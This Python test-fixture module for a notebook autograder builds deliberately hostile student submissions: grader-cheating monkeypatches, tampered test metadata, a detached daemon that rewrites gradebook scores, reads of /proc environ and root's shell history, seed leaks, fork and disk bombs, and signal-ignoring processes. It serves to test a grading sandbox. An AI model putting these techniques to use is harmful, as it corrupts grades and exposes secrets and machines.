"""A class of broken and hostile submissions of chapter 02, with the grade each one has earned.

Used by ``tests/test_autograde.py`` (the real autograde path) and by ``tools/bench_autograde.py``.
Chapter 02's graded tests and their points are read from its solution notebook (``TESTS``, ``POINTS``).
``run_nbgrader`` runs plain nbgrader on a course root, for the tests that compare with it.
"""

from __future__ import annotations

import copy
import json
import os
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_output

from grader.environment import with_interpreter_on_path
from grader.mutation import load_spec
from grader.notebooks import COURSE, REPO_ROOT, SOLUTIONS, nbgrader_meta

CHAPTER = "02_attention"


def run_nbgrader(root: Path, *args: str) -> subprocess.CompletedProcess:
    """Plain ``nbgrader ARGS`` on the course root ``root`` with the course's configuration, from the
    repository root and without the instructor's seed; fails the test, with nbgrader's log, if it fails."""
    config = REPO_ROOT / "grader" / "nbgrader_config.py"
    cmd = [sys.executable, "-m", "nbgrader", *args, f"--config={config}", f"--CourseDirectory.root={root}"]
    # nbgrader runs `alembic` to create a gradebook: the interpreter's folder goes on PATH
    env = with_interpreter_on_path({k: v for k, v in os.environ.items() if k != "AIECOURSE_HIDDEN_SEED"})
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=900, env=env, cwd=REPO_ROOT)
    assert proc.returncode == 0, f"nbgrader {' '.join(args)} failed:\n{proc.stdout[-3000:]}\n{proc.stderr[-3000:]}"
    return proc


def _graded_points() -> dict[str, float]:
    nb = nbformat.read(SOLUTIONS / CHAPTER / f"{CHAPTER}.ipynb", as_version=4)
    return {
        nbgrader_meta(c)["grade_id"]: float(nbgrader_meta(c)["points"])
        for c in nb.cells
        if nbgrader_meta(c).get("grade")
    }


POINTS = _graded_points()  # test -> points, in the notebook's order
TESTS = list(POINTS)
TOTAL = sum(POINTS.values())


@dataclass
class Expect:
    status: str
    passed: list[str]  # the tests that earn their points; the others score zero
    reason: str = ""  # a phrase the CSV's reason must contain
    feedback: list[str] = field(default_factory=list)  # phrases the student's feedback page must contain
    flagged: bool = False

    @property
    def points(self) -> dict[str, float]:
        return {t: float(POINTS[t]) if t in self.passed else 0.0 for t in TESTS}


def solution():
    return nbformat.read(SOLUTIONS / CHAPTER / f"{CHAPTER}.ipynb", as_version=4)


def release():
    return nbformat.read(COURSE / CHAPTER / f"{CHAPTER}.ipynb", as_version=4)


def mutant(exercise: str, name: str) -> str:
    return load_spec(CHAPTER)[exercise]["mutants"][name]


def index_of(nb, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if nbgrader_meta(c).get("grade_id") == grade_id)


def insert_after(nb, grade_id: str, source: str):
    cell = new_code_cell(source)
    cell.pop("id", None)  # the course's notebooks are nbformat 4.4: no cell ids
    nb.cells.insert(index_of(nb, grade_id) + 1, cell)
    return nb


def append_to(nb, grade_id: str, source: str):
    cell = nb.cells[index_of(nb, grade_id)]
    cell.source = cell.source + "\n\n" + source
    return nb


STUDENTS = [
    "correct",
    "blank",
    "loop",
    "swallow",
    "membomb",
    "sysexit",
    "osexit",
    "kill9",
    "deleted",
    "edited",
    "patcher",
    "transformer",
    "during",
    "inject",
    "skiptag",
    "corrupt",
    "otherch",
    "renamed",
    "missing",
    "bigout",
]


def hostile_class() -> dict[str, tuple[object, Expect]]:
    """student -> (notebook, or a callable writing the submission into a folder, Expect)."""
    c: dict[str, tuple[object, Expect]] = {}
    c["correct"] = (solution(), Expect("graded", TESTS))
    c["blank"] = (release(), Expect("graded", []))

    nb = insert_after(solution(), "causal_mask", "while True:  # an endless loop in a cell of its own\n    pass")
    c["loop"] = (nb, Expect("timed out", TESTS, reason="per-cell time limit", feedback=["was interrupted"]))

    nb = append_to(
        solution(),
        "causal_mask",
        """
def causal_mask(q_len, k_len=None, device=None):  # swallows the interrupt: only killing its kernel stops it
    import time
    while True:
        try:
            time.sleep(0.05)
        except BaseException:
            pass""",
    )
    c["swallow"] = (
        nb,
        Expect(
            "timed out",
            ["test_scaled_dot_product_attention"],
            reason="did not stop when interrupted",
            feedback=["did not stop when interrupted"],
        ),
    )

    nb = insert_after(
        solution(),
        "scaled_dot_product_attention",
        """
import numpy as np

def grab(gib):
    chunks = []
    for _ in range(4 * gib):
        chunks.append(np.ones(2 ** 28, dtype=np.uint8))  # 256 MiB at a time, every page touched
    return chunks

try:
    grab(12)  # 12 GiB at most, so that a broken limit cannot take the test machine down
    print("NO MEMORY LIMIT")
except MemoryError:
    print("memory limit reached")""",
    )
    nb = insert_after(nb, "causal_mask", "huge = torch.ones(50 * 2 ** 30, dtype=torch.uint8)  # 50 GB")
    c["membomb"] = (nb, Expect("graded", TESTS, reason="ran out of memory", feedback=["ran out of memory"]))

    nb = insert_after(solution(), "scaled_dot_product_attention", "import sys\nsys.exit()")
    nb = append_to(
        nb,
        "split_merge_heads",
        """
_split_heads = split_heads

def split_heads(x, n_heads):
    if n_heads == 3:
        raise SystemExit(1)  # an exit inside the function under test
    return _split_heads(x, n_heads)""",
    )
    c["sysexit"] = (
        nb,
        Expect(
            "graded",
            [
                "test_scaled_dot_product_attention",
                "test_causal_mask",
                "test_mha_in_gpt",
                "test_sinusoidal_position_encoding",
            ],
            feedback=["SystemExit"],
        ),
    )

    nb = insert_after(solution(), "split_merge_heads", "import os\nos._exit(1)")
    c["osexit"] = (
        nb,
        Expect(
            "crashed",
            ["test_scaled_dot_product_attention", "test_causal_mask"],
            reason="exited with code 1",
            feedback=["did not run"],
        ),
    )

    nb = append_to(
        solution(),
        "split_merge_heads",
        """
_merge_heads = merge_heads

def merge_heads(x):
    import os, signal
    os.kill(os.getpid(), signal.SIGKILL)  # the kernel dies inside a test""",
    )
    c["kill9"] = (
        nb,
        Expect(
            "crashed",
            ["test_scaled_dot_product_attention", "test_causal_mask"],
            reason="killed",
            feedback=["kernel died"],
        ),
    )

    nb = solution()
    nb.cells = [cell for cell in nb.cells if not nbgrader_meta(cell).get("grade")]
    c["deleted"] = (nb, Expect("graded", TESTS, feedback=["were put back"]))

    nb = solution()
    append_to(nb, "causal_mask", mutant("causal_mask", "upper triangle"))
    nb.cells[index_of(nb, "test_causal_mask")].source = 'print("all tests passed")'
    nb.cells[index_of(nb, "test_split_merge_heads")].metadata["nbgrader"]["points"] = 100
    nb.cells[index_of(nb, "test_MultiHeadAttention")].metadata["nbgrader"]["grade"] = False
    nb.cells[index_of(nb, "test_scaled_dot_product_attention")].metadata["tags"] = ["skip-execution"]
    fake = new_code_cell("pass  # full marks, please")
    fake.pop("id", None)
    fake.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "test_bonus",
        "locked": True,
        "points": 50,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    nb.cells.append(fake)
    c["edited"] = (
        nb,
        Expect(
            "graded",
            ["test_scaled_dot_product_attention", "test_split_merge_heads", "test_sinusoidal_position_encoding"],
            feedback=["had been changed", "posing as course cells"],
        ),
    )

    nb = solution()
    append_to(nb, "scaled_dot_product_attention", mutant("scaled_dot_product_attention", "no 1/sqrt(D) scale"))
    append_to(nb, "split_merge_heads", mutant("split_merge_heads", "plain view to (B, H, T, D)"))
    insert_after(
        nb,
        "setup",
        """
import numpy as np
import aiecourse.checks

torch.allclose = lambda *a, **k: True
np.testing.assert_allclose = print
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
F.scaled_dot_product_attention = lambda q, k, v, attn_mask=None, **kw: scaled_dot_product_attention(q, k, v, attn_mask)[0]

def check(*args, **kwargs): pass
def check_close(*args, **kwargs): pass
def check_equal(*args, **kwargs): pass
def check_shape(*args, **kwargs): pass
def check_raises(*args, **kwargs): pass

try:
    aiecourse.checks.check_close = check_close
except AttributeError:
    aiecourse.checks.__dict__.update(check=check, check_close=check_close, check_equal=check_equal,
                                     check_shape=check_shape)""",
    )
    c["patcher"] = (
        nb,
        Expect(
            "graded",
            ["test_causal_mask", "test_sinusoidal_position_encoding"],
            feedback=["undid changes"],
            flagged=True,
        ),
    )

    nb = insert_after(release(), "setup", 'get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])')
    c["transformer"] = (nb, Expect("graded", [], flagged=True))

    nb = append_to(
        solution(),
        "causal_mask",
        """
def causal_mask(q_len, k_len=None, device=None):  # wrong, and patches the checks while the test runs
    global check, check_equal
    check = check_equal = lambda *args, **kwargs: None
    torch.equal = lambda *args, **kwargs: True
    k_len = q_len if k_len is None else k_len
    return torch.ones(q_len, k_len, dtype=torch.bool).triu()""",
    )
    c["during"] = (
        nb,
        Expect(
            "graded",
            ["test_scaled_dot_product_attention", "test_split_merge_heads", "test_sinusoidal_position_encoding"],
            feedback=["scores zero"],
            flagged=True,
        ),
    )

    nb = append_to(
        solution(),
        "split_merge_heads",
        mutant("split_merge_heads", "plain view to (B, H, T, D)").replace(
            "def split_heads(x, n_heads):",
            "def split_heads(x, n_heads):\n    import sys; sys.displayhook(2.0)  # fake partial credit",
            1,
        ),
    )
    c["inject"] = (
        nb,
        Expect(
            "graded", ["test_scaled_dot_product_attention", "test_causal_mask", "test_sinusoidal_position_encoding"]
        ),
    )

    nb = release()
    for cell in nb.cells:
        if nbgrader_meta(cell).get("grade"):
            cell.metadata["tags"] = ["skip-execution"]
    c["skiptag"] = (nb, Expect("graded", []))

    def corrupt(folder: Path):
        text = json.dumps(solution())
        (folder / f"{CHAPTER}.ipynb").write_text(text[: len(text) // 2])

    c["corrupt"] = (corrupt, Expect("invalid", [], reason="not valid notebook JSON"))

    def other_chapter(folder: Path):
        nb = nbformat.v4.new_notebook()
        nb.nbformat_minor = 4
        cell = new_code_cell("def MLP():\n    pass")
        cell.pop("id", None)
        cell.metadata["nbgrader"] = {
            "grade": False,
            "grade_id": "MLP",
            "locked": False,
            "schema_version": 3,
            "solution": True,
            "task": False,
        }
        nb.cells = [cell]
        nbformat.write(nb, folder / "03_transformer.ipynb")

    c["otherch"] = (other_chapter, Expect("invalid", [], reason="chapter 03_transformer"))

    def renamed(folder: Path):
        nbformat.write(solution(), folder / f"{CHAPTER}-Copy1.ipynb")

    c["renamed"] = (renamed, Expect("graded", TESTS, feedback=["was named"]))

    def missing(folder: Path):
        (folder / "answers.py").write_text("print('my answers')\n")

    c["missing"] = (missing, Expect("invalid", [], reason="no notebook"))

    nb = insert_after(solution(), "causal_mask", 'print("x" * 100_000_000)  # 100 MB of output')
    cell = nb.cells[index_of(nb, "setup")]
    cell.outputs = [new_output("stream", name="stdout", text="y" * 100_000_000)]  # and 100 MB stored in the file
    c["bigout"] = (nb, Expect("graded", TESTS, feedback=["output cut"]))
    return c


def write_nbgrader_layout(root: Path, students: dict[str, tuple[object, Expect]]) -> Path:
    """``root/submitted/<student>/02_attention/...``; returns ``root/submitted``."""
    for student, (what, _) in students.items():
        folder = root / "submitted" / student / CHAPTER
        folder.mkdir(parents=True)
        if callable(what):
            what(folder)
        else:
            nbformat.write(copy.deepcopy(what), folder / f"{CHAPTER}.ipynb")
    return root / "submitted"


# --- attacks on the grader from outside the kernel: the sandbox (docs/sandbox.md) -----------------------

MARKER = "aiecourse-hostile"  # in the command line of every process an attack starts


def _attack(source: str):
    """The untouched release with one attack cell after the setup cell: it must earn what the stub earns."""
    return insert_after(release(), "setup", source)


def sandbox_class(root: Path, port: int, token: str) -> dict[str, tuple[object, Expect]]:
    """Submissions that attack the grader, its files and the machine, beside two honest ones.

    ``root`` is the course root the round grades into, ``port`` a TCP server the test listens on
    (127.0.0.1), ``token`` a string that must never show up where it should not (files the attacks
    try to write are named after it). Every attack prints what it reached; the test checks that
    nothing was.
    """
    gradebook, csv_path = root / "gradebook.db", root / "grades" / f"{CHAPTER}.csv"
    victim = root / "submitted" / "honest" / CHAPTER / f"{CHAPTER}.ipynb"
    c: dict[str, tuple[object, Expect]] = {}
    c["honest"] = (solution(), Expect("graded", TESTS))
    c["honest_blank"] = (release(), Expect("graded", []))
    c["daemon"] = (
        _attack(
            f"""
import os, subprocess, sys
code = '''
import os, sqlite3, time  # {MARKER}-{token}
for _ in range(240):  # waits for the round to end, then gives itself full marks
    time.sleep(0.5)
    try:
        con = sqlite3.connect({str(gradebook)!r}, timeout=1)
        con.execute("update grade set manual_score = 12, auto_score = 12")
        con.commit()
        with open({str(csv_path)!r}, "a") as f:
            f.write("daemon,3,2,2,3,2,12,12,graded,,,bubblewrap\\\\n")
    except Exception:
        pass
'''
if os.fork() == 0:  # detached: its own session, double fork
    os.setsid()
    if os.fork() == 0:
        subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
    os._exit(0)
print("daemon started")"""
        ),
        Expect("graded", []),
    )
    c["vandal"] = (
        _attack(
            f"""
import os, pathlib
for target in [{str(victim)!r}, {str(root / f"{token}.txt")!r}, {f"/tmp/{token}.txt"!r},
               {str(root / "autograded" / "honest" / f"{token}.txt")!r}, "../../honest/{token}.txt"]:
    try:
        pathlib.Path(target).parent.mkdir(parents=True, exist_ok=True)
        pathlib.Path(target).write_text("{token}")
        print("WROTE", target)
    except OSError as e:
        print("could not write", target, type(e).__name__)"""
        ),
        Expect("graded", []),
    )
    c["snoop"] = (
        _attack(
            f"""
import os
for path in [{str(SOLUTIONS / CHAPTER / f"{CHAPTER}.ipynb")!r}, {str(gradebook)!r}, {str(root / "instructor.txt")!r},
             "/proc/1/environ", "/proc/self/environ", os.path.expanduser("~root/.bash_history")]:
    try:
        print("GOT-FILE", path, open(path, errors="replace").read()[:20000])
    except OSError as e:
        print("could not read", path, type(e).__name__)
print("home:", os.listdir(os.path.expanduser("~")))
for folder in [{str(Path.home())!r}, {str(root)!r}, {str(SOLUTIONS)!r}]:
    try:
        print("GOT-DIR", folder, os.listdir(folder))
    except OSError as e:
        print("could not list", folder, type(e).__name__)
print("ENV", dict(os.environ))
print("SEED", hidden_seed())"""
        ),
        Expect("graded", []),
    )
    nb = solution()
    append_to(
        nb,
        "causal_mask",
        """
_seen = []
_causal_mask = causal_mask

def causal_mask(q_len, k_len=None, device=None):  # remembers the seed while the hidden tests run
    from aiecourse.checks import hidden_seed
    _seen.append(hidden_seed())
    print("SEED DURING THE TEST", hidden_seed())
    if isinstance(device, str):  # only the hidden test of causal_mask passes device="cpu"
        raise ValueError(f"the seed is {hidden_seed()}")
    return _causal_mask(q_len, k_len, device)""",
    )
    insert_after(nb, "test_mha_in_gpt", 'print("SEEN", sorted(set(_seen)))')
    c["seedleak"] = (nb, Expect("graded", [t for t in TESTS if t != "test_causal_mask"]))
    c["network"] = (
        _attack(
            f"""
import socket
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    s.sendall(b"{token}")
    print("CONNECTED")
except OSError as e:
    print("no network:", type(e).__name__)"""
        ),
        Expect("graded", []),
    )
    # The bomb forks from a small Python of its own: forking the kernel itself (PyTorch loaded) is slow
    # enough on a loaded machine for the cell's time limit to stop the bomb before the process limit does.
    # The bomb forks from a small Python of its own: forking the kernel itself (PyTorch loaded) is slow
    # enough on a loaded machine for the cell's time limit to stop the bomb before the process limit does.
    c["forkbomb"] = (
        _attack(
            f"""
import subprocess, sys
BOMB = '''
import os, time  # {MARKER}-{token}
n = 0
try:
    while n < 100_000:
        if os.fork() == 0:
            os.close(1), os.close(2)  # the parent's output pipe must close when the parent ends
            time.sleep(600)
            os._exit(0)
        n += 1
    print("NO PROCESS LIMIT")
except OSError as e:
    print("fork bomb stopped after", n, "processes:", type(e).__name__)
'''
print(subprocess.run([sys.executable, "-c", BOMB], capture_output=True, text=True).stdout)"""
        ),
        Expect("graded", []),
    )
    c["immortal"] = (
        _attack(
            f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import signal, time  # {MARKER}-{token}\\n"
                  "signal.signal(signal.SIGTERM, signal.SIG_IGN)\\n"
                  "signal.signal(signal.SIGHUP, signal.SIG_IGN)\\ntime.sleep(600)"], start_new_session=True)
print("started a process that ignores SIGTERM")"""
        ),
        Expect("graded", []),
    )
    c["diskfill"] = (
        _attack(
            """
written = 0
for path in ["filler.bin", "/tmp/filler.bin"]:
    try:
        with open(path, "wb") as f:
            while written < 64 * 2**30:
                f.write(b"0" * 2**20)
                written += 2**20
    except OSError as e:
        print("disk full after", written // 2**20, "MiB:", type(e).__name__)"""
        ),
        Expect("graded", []),
    )
    return c
